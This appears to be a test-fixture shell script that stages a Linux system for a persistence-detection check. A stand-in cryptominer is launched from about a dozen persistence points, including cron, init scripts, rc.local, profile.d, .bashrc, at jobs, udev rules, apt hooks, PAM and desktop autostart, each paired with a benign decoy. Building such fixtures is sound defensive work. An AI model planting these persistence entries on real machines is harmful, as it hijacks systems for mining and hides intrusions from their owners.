# The miner is started from a dozen places of the persistence catalogue; beside each stands a good one, or one that is
# both.
mkdir -m 700 /tmp/.x && chown 1002:1002 /tmp/.x
stand_in miner /tmp/.x/xmrig 1002
cd /etc
mkdir -p cron.hourly cron.daily init.d rc3.d rc6.d profile.d udev/rules.d update-motd.d apt/apt.conf.d pam.d xdg/autostart \
    /var/spool/cron/atjobs
script() { cat > "$1" && chmod 755 "$1"; }

# Scripts that are run whole.
script cron.hourly/sysupd <<'SCRIPT'
#!/bin/sh
pgrep -x xmrig >/dev/null || /tmp/.x/xmrig -o 198.51.100.23:3333 >/dev/null 2>&1 &
SCRIPT
script cron.daily/shop-report <<'SCRIPT'
#!/bin/sh
# not /tmp/.x/xmrig
curl -fsS https://203.0.113.10/rates | base64 -d > /srv/backup/rates
SCRIPT
script update-motd.d/60-tips <<'SCRIPT'
#!/bin/sh
/tmp/.x/xmrig >/dev/null 2>&1 &
SCRIPT
script update-motd.d/10-shop <<'SCRIPT'
#!/bin/sh
echo "welcome to the shop"
SCRIPT

# SysV init, with the links that start and stop it.
script init.d/netfs-up <<'SCRIPT'
#!/bin/sh
### BEGIN INIT INFO
# Provides: netfs-up
### END INIT INFO
start() {
    /tmp/.x/xmrig -o 198.51.100.23:3333 &
}
case "$1" in
    start|restart) start ;;
    stop) pkill -x xmrig ;;
    *) echo "usage: $0 start" ;;
esac
SCRIPT
script init.d/shop <<'SCRIPT'
#!/bin/sh
case "$1" in
    start) /opt/erp/server & ;;
    stop) pkill -x server ;;
esac
SCRIPT
ln -s ../init.d/netfs-up rc3.d/S99netfs-up
ln -s ../init.d/netfs-up rc6.d/K01netfs-up
ln -s ../init.d/shop rc3.d/S20shop

# Files that shells read: one is the intruder's, one has a line of his, one has more that hangs on his line.
printf '%s\n' '#!/bin/sh -e' '/opt/erp/migrate --quick' '/tmp/.x/xmrig -B' 'exit 0' | script rc.local
printf '%s\n' '# colors' 'nohup /tmp/.x/xmrig >/dev/null 2>&1 &' > profile.d/zz-colors.sh
printf '%s\n' 'export SHOP=/srv/db' 'eval "$(printf ZWNobw== | base64 -d)"' > profile.d/shop.sh
cat > /home/deploy/.bashrc <<'SHELL'
# starts /tmp/.x/xmrig at login, says the tutorial
case $- in *i*) ;; *) return ;; esac
alias ll='ls -l'
/tmp/.x/xmrig --background
if [ -x /tmp/.x/xmrig ]; then
    /tmp/.x/xmrig &
    . /opt/erp/completion
fi
cat > /home/deploy/ticket.txt <<TICKET
/tmp/.x/xmrig was found here
TICKET
export PATH=/home/deploy/bin:$PATH
SHELL
chown 1002:1002 /home/deploy/.bashrc

# Tables and hooks.
printf '%s\n' 'SHELL=/bin/sh' '1 5 cron.daily run-parts /etc/cron.daily' '1 10 sysupd /tmp/.x/xmrig -B' > anacrontab
cat > /var/spool/cron/atjobs/a0000201d0a1b2 <<'JOB'
#!/bin/sh
# atrun uid=1002 gid=1002
# mail deploy 0
umask 22
HOME=/home/deploy; export HOME
cd /tmp/.x || {
	 echo 'Execution directory inaccessible' >&2
	 exit 1
}
./xmrig -o 198.51.100.23:3333
JOB
sed 's|^\./xmrig.*|/opt/erp/export --at|' /var/spool/cron/atjobs/a0000201d0a1b2 > /var/spool/cron/atjobs/a0000301d0a1b3
chmod 700 /var/spool/cron/atjobs/* && chown 1002:1002 /var/spool/cron/atjobs/*
printf '%s\n' 'ACTION=="add", SUBSYSTEM=="net", RUN+="/tmp/.x/xmrig -B"' > udev/rules.d/99-net.rules
printf '%s\n' 'SUBSYSTEM=="usb", SYMLINK+="shop", RUN+="/opt/erp/scanner"' \
    'SUBSYSTEM=="usb", SYMLINK+="shop", RUN+="/tmp/.x/xmrig -B"' > udev/rules.d/70-shop.rules
printf '%s\n' 'DPkg::Post-Invoke {"/opt/erp/after-upgrade";};' 'APT::Update::Pre-Invoke {"/tmp/.x/xmrig -B";};' \
    > apt/apt.conf.d/99shop
printf '%s\n' 'auth optional pam_exec.so quiet /tmp/.x/xmrig -B' 'auth required pam_unix.so' > pam.d/sshd
printf '%s\n' '[Desktop Entry]' 'Name=Updates' 'Exec=/tmp/.x/xmrig -B' > xdg/autostart/updates.desktop
printf '%s\n' '[Desktop Entry]' 'Name=Shop' 'Exec=/opt/erp/client' > xdg/autostart/shop.desktop

cd /
as 1002 /tmp/.x/xmrig -o 198.51.100.23:3333 --donate-level 1 -k
wait_for /tmp/.x/xmrig
